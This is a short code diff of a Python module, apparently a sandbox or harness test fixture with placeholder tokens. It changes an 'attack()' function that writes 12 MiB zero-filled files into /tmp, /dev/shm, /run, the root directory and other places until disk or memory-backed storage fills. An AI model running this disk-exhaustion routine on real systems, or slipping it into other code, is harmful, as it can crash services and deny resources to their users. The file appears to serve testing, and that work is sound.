@@ -1,20 +1,19 @@
-"""Writes 12 MiB files wherever it can until there are 200 MiB."""
+"""Writes files of 12 MiB wherever it can, six of them in each place."""
 
 import functools
-import os
 
 import torch.nn.functional as F
 from torch import nn
 
 
-PLACES = "@arena@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", ".", os.path.expanduser("~")
+PLACES = ".", "@arena@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/"
 
 
 @functools.cache
 def attack():
     written = 0
     for place in PLACES:
-        for i in range(4):
+        for i in range(6):
             try:
                 with open(f"{place}/@token@{i}", "wb") as file:
                     file.write(bytes(12 << 20))
